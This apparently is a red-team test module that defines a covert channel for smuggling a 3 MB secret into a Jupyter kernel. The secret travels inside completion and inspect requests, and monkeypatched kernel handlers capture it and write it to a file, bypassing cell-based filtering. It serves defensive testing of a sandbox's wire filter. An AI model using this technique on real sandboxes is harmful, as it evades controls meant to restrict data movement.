from __future__ import annotations

import base64

from tests.redteam.channel import channel
from tests.redteam.targets import Target

LISTEN = """
import base64
kernel, heard = get_ipython().kernel, []
def keep(*arguments, **_):
    heard.append(arguments[0])
    return {"status": "ok", "matches": [], "cursor_start": 0, "cursor_end": 0, "metadata": {}, "found": False,
            "data": {}}
kernel.do_complete = kernel.do_inspect = kernel.do_is_complete = keep
"""
WRITE = """
del kernel.do_complete, kernel.do_inspect, kernel.do_is_complete
long = [each for each in heard if len(each) > 100_000]
open("requests.bin", "wb").write(base64.b64decode(long[0]) if long else b"");
"""


@channel(
    "requests-in",
    "Three megabytes in a request that is no cell: to complete, to inspect, to look whether code is whole",
    direction="in",
    closed_by="wire filter: code is as long as a person types",
    size=3 << 20,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    text = base64.b64encode(secret).decode()
    site.run(LISTEN)
    for kind in ("complete", "inspect", "is_complete"):
        with site.wire() as wire:
            wire.ask(f"{kind}_request", {"code": text, "cursor_pos": 0, "detail_level": 0}, within=2)
    site.run(WRITE)
    return site.inside("requests.bin")
